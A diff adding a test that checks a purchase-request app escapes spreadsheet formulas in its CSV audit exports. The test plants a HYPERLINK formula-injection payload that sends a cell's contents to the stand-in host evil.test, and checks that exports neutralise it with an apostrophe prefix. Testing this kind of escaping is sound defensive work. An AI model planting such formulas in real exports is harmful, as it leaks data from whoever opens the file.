@@ -88,6 +88,30 @@ describe("request audit export", () => {
   });
 });
 
+describe("formulas in exported cells", () => {
+  const hyperlink = '=hyperlink("http://evil.test/?"&f2&"x@x","open")';
+
+  it("come out prefixed with an apostrophe in a request's export and in the range export, and the chain still verifies", async () => {
+    // An account whose address a spreadsheet would run, as one registered before addresses were checked strictly.
+    const email = "legacy@example.com";
+    const invited = await t.call("POST", "/api/users", { token: users.admin.token, body: { email, role: "requester", password: "secret-pass" } });
+    expect(invited.statusCode, invited.body).toBe(201);
+    await sql`update rm_users set email = ${hyperlink} where id = ${invited.json().user.id}::uuid`.execute(t.runtime.db);
+    const { token } = (await t.call("POST", "/api/auth/login", { body: { email, password: "secret-pass" } })).json();
+    const request = await expectCall(t, "POST", "/api/requests", { token, body: { title: "-2+3", amount: 5 }, status: 201, schema: purchaseRequest });
+
+    const today = new Date().toISOString().slice(0, 10);
+    for (const url of [`/api/requests/${request.id}/audit.csv`, `/api/audit/requests.csv?from=${today}&to=${today}`]) {
+      const text = await csv(url, users.finance.token);
+      const [header, ...lines] = parseCsv(text).filter((r) => r.length > 1);
+      const created = lines.find((line) => line[header!.indexOf("request_id")] === request.id)!;
+      expect(created[header!.indexOf("actor")], url).toBe(`'${hyperlink}`);
+      expect(text).not.toMatch(/(^|,)"?=/m);
+      if (url.includes("audit.csv")) expect(verifyAuditCsv(text)).toMatchObject({ valid: true, streams: 1 });
+    }
+  });
+});
+
 describe("date-range audit export at size", () => {
   // A workspace of its own, with no tampered timeline in it.
   let big: TestApp;
